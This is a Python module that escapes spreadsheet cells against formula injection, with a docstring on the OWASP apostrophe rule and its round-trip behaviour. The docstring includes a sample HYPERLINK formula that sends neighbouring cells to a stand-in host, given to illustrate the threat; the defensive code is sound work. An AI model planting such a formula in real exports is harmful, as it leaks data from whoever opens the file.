"""What the project writes into spreadsheets cannot attack the person who opens them.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
as a formula by Excel and LibreOffice (``=HYPERLINK("http://x?x="&B3,"Open")`` sends the
neighbouring cells away). The OWASP rule is applied: such text is written with a ``'`` in
front, which spreadsheets show as text. Importing undoes it, so a file exported then
re-imported changes nothing:

- ``escape`` adds one ``'`` to text whose first character after any leading ``'`` is a
  dangerous one (so ``'=x`` typed by a person becomes ``''=x`` and comes back as ``'=x``);
- ``unescape`` removes exactly that one ``'``; ``unescape(escape(v)) == v`` for every value.

Plain numbers written as text (``-34.9``, the CSV rendering of a latitude) are no formula and
stay as they are. Values that are not text (numbers and dates of an XLSX file) are untouched.

django-import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is not used: it removes the
first ``=`` (the value is lost, and a re-import changes it), turns every cell into text, and
leaves ``+``, ``-``, ``@``, tab and carriage return live.

This module imports no domain app.
"""

import re

DANGEROUS_FIRST = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"\A[+-]?[0-9][0-9.,]*\Z")

# The characters openpyxl refuses (IllegalCharacterError): C0 controls but tab, LF and CR.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _needs_quote(text):
    rest = text.lstrip("'")
    if rest[:1] not in DANGEROUS_FIRST:
        return False
    return not (rest == text and _PLAIN_NUMBER.match(text))


def escape(value):
    """``value`` made safe for a spreadsheet cell (see the module's docstring)."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def unescape(value):
    """Undoes ``escape``: the ``'`` it added, and only that, is removed."""
    if isinstance(value, str) and value[:1] == "'" and value.lstrip("'")[:1] in DANGEROUS_FIRST:
        return value[1:]
    return value


def xlsx_safe(value):
    """Text without the control characters an XLSX file cannot hold (they are dropped)."""
    if isinstance(value, str):
        return _XLSX_ILLEGAL.sub("", value)
    return value
